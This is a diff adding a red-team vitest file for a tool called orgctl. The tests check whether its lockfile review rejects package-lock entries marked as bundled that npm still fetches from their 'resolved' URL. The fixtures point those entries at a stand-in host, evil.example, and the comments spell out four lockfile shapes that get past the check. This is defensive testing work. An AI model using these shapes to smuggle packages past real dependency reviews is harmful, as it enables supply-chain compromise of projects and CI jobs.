@@ -1,0 +1,159 @@
+/**
+ * Red team R58 (base e6aead1): what npm takes from a package's bundle, against R54-2's
+ * dependencyBundled. npm's Node.getBundler is not the rule dependencyBundled states: it stops at
+ * the project (a chain reaching a package the project bundles is fetched: inDepBundle is false
+ * when the bundler is the root), it shares one list of visited nodes across the whole walk (a node
+ * met once reads as bundled by nothing the second time), and a node's parent is the first lock
+ * entry up its folders, whatever its key. Each case below is one where orgctl took an entry as
+ * bundled (its `resolved` not judged) while the npm that runs here fetches it from that
+ * `resolved`: evil.example's code in the review job, with the head proof accepted.
+ */
+import { execFileSync } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { lockedEngine, projectCommandProblem } from '../review/head-proof.ts';
+import { tempDir } from './helpers.ts';
+
+const SHA512 = `sha512-${'A'.repeat(86)}==`;
+const TRUSTED = ['https://registry.npmjs.org'];
+const npmRoot = join(execFileSync('npm', ['root', '-g'], { encoding: 'utf8' }).trim(), 'npm');
+const Arborist = createRequire(join(npmRoot, 'package.json'))('@npmcli/arborist') as new (o: {
+  path: string;
+}) => {
+  loadVirtual(): Promise<{ inventory: Map<string, { inDepBundle: boolean }> }>;
+};
+
+/** A registry's package at the lock's `path`, pinned by a sha512, with `fields`. */
+const registry = (path: string, fields: Record<string, unknown> = {}) => {
+  const name = path.slice(path.lastIndexOf('node_modules/') + 'node_modules/'.length);
+  const base = name.slice(name.indexOf('/') + 1);
+  return {
+    version: '1.0.0',
+    resolved: `https://registry.npmjs.org/${name}/-/${base}-1.0.0.tgz`,
+    integrity: SHA512,
+    ...fields,
+  };
+};
+/** An entry marked inBundle, fetched (if npm fetches it) from evil.example. */
+const evil = (fields: Record<string, unknown> = {}) => ({
+  version: '1.0.0',
+  resolved: 'https://evil.example/x-1.0.0.tgz',
+  integrity: SHA512,
+  inBundle: true,
+  ...fields,
+});
+
+interface Case {
+  readonly packages: Record<string, unknown>;
+  readonly path: string;
+  readonly manifest?: Record<string, unknown>;
+}
+
+/** The project's package.json and lock of `packages` (orgctl at the top), as npm ci reads them. */
+function project({ packages, manifest = {} }: Case) {
+  const pkg = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: '1.0.0' }, ...manifest };
+  const lock = JSON.stringify({ ...pkg, lockfileVersion: 3, requires: true, packages: { '': pkg, ...packages } });
+  return { pkg: JSON.stringify(pkg), lock };
+}
+
+async function npmFetches(c: Case): Promise<boolean> {
+  const dir = tempDir('orgctl-r58-');
+  const { pkg, lock } = project(c);
+  writeFileSync(join(dir, 'package.json'), pkg);
+  writeFileSync(join(dir, 'package-lock.json'), lock);
+  const tree = await new Arborist({ path: dir }).loadVirtual();
+  return tree.inventory.get(c.path)?.inDepBundle !== true;
+}
+
+/** Whether orgctl refuses the head: its package.json, or its lock naming evil.example. */
+function refused(c: Case): boolean {
+  const { pkg, lock } = project(c);
+  if (projectCommandProblem(pkg, undefined, 'orgctl') !== undefined) return true;
+  const locked = lockedEngine(lock, 'orgctl', TRUSTED);
+  return typeof locked === 'string' || !!locked.untrusted?.includes('evil.example');
+}
+
+const cases: [string, Case][] = [
+  [
+    'R58-1: the project bundles orgctl, which bundles yaml (npm: bundled by the root, so fetched)',
+    {
+      manifest: { bundleDependencies: ['orgctl'] },
+      packages: {
+        'node_modules/orgctl': registry('node_modules/orgctl', {
+          dependencies: { yaml: '*' },
+          bundleDependencies: ['yaml'],
+        }),
+        'node_modules/orgctl/node_modules/yaml': evil(),
+      },
+      path: 'node_modules/orgctl/node_modules/yaml',
+    },
+  ],
+  [
+    'R58-2: a bundled package needing its bundler (one visited list: npm reads the second edge as unbundled)',
+    {
+      packages: {
+        'node_modules/orgctl': registry('node_modules/orgctl', {
+          dependencies: { b: '*' },
+          bundleDependencies: ['b'],
+        }),
+        'node_modules/orgctl/node_modules/b': evil({ dependencies: { c: '*', orgctl: '*' } }),
+        'node_modules/orgctl/node_modules/c': evil(),
+      },
+      path: 'node_modules/orgctl/node_modules/c',
+    },
+  ],
+  [
+    "R58-3: a lock key naming the scope's folder (npm takes it as the scoped package's parent)",
+    {
+      packages: {
+        'node_modules/orgctl': registry('node_modules/orgctl', {
+          dependencies: { '@s/e': '*' },
+          bundleDependencies: ['@s/e'],
+        }),
+        'node_modules/orgctl/node_modules/@s': registry('node_modules/orgctl/node_modules/@s'),
+        'node_modules/orgctl/node_modules/@s/e': evil(),
+      },
+      path: 'node_modules/orgctl/node_modules/@s/e',
+    },
+  ],
+  [
+    "R58-4: a second key for the bundler's folder, ./node_modules/orgctl, bundling nothing (npm keeps the last)",
+    {
+      packages: {
+        'node_modules/orgctl': registry('node_modules/orgctl', {
+          dependencies: { yaml: '*' },
+          bundleDependencies: ['yaml'],
+        }),
+        'node_modules/orgctl/node_modules/yaml': evil(),
+        './node_modules/orgctl': registry('node_modules/orgctl', { dependencies: { yaml: '*' } }),
+      },
+      path: 'node_modules/orgctl/node_modules/yaml',
+    },
+  ],
+];
+
+describe('R58: an entry npm fetches from its resolved is judged (fails by design on e6aead1)', () => {
+  it.each(cases)('%s', async (_, c) => {
+    expect(await npmFetches(c)).toBe(true); // the oracle: npm fetches it
+    expect(refused(c)).toBe(true);
+  });
+
+  it("a guard: the shapes npm does take from a bundle stay unjudged (cdk8s's, and a dependency deduped to its bundler)", async () => {
+    const c: Case = {
+      packages: {
+        'node_modules/orgctl': registry('node_modules/orgctl', {
+          dependencies: { b: '*' },
+          bundleDependencies: ['b'],
+        }),
+        'node_modules/orgctl/node_modules/b': { version: '1.0.0', inBundle: true, dependencies: { c: '*' } },
+        'node_modules/orgctl/node_modules/b/node_modules/d': { version: '1.0.0', inBundle: true },
+        'node_modules/orgctl/node_modules/c': { version: '1.0.0', inBundle: true },
+      },
+      path: 'node_modules/orgctl/node_modules/c',
+    };
+    expect(await npmFetches(c)).toBe(false);
+    expect(refused(c)).toBe(false);
+  });
+});
